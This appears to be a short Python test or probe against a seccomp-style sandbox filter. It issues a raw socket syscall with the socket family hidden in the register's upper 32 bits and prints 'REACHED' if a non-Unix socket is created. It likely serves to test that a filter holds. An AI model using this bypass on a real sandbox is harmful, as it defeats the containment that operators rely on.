# tries: hide a socket family from the filter in the upper half of the register

if platform.machine() == "x86_64":
    for family in (2 | 1 << 32, 1 | 1 << 32):
        result = libc.syscall(ctypes.c_long(41), ctypes.c_long(family), ctypes.c_long(1), ctypes.c_long(0))
        if result >= 0 and socket.socket(fileno=result).family != socket.AF_UNIX:
            print("REACHED", family)
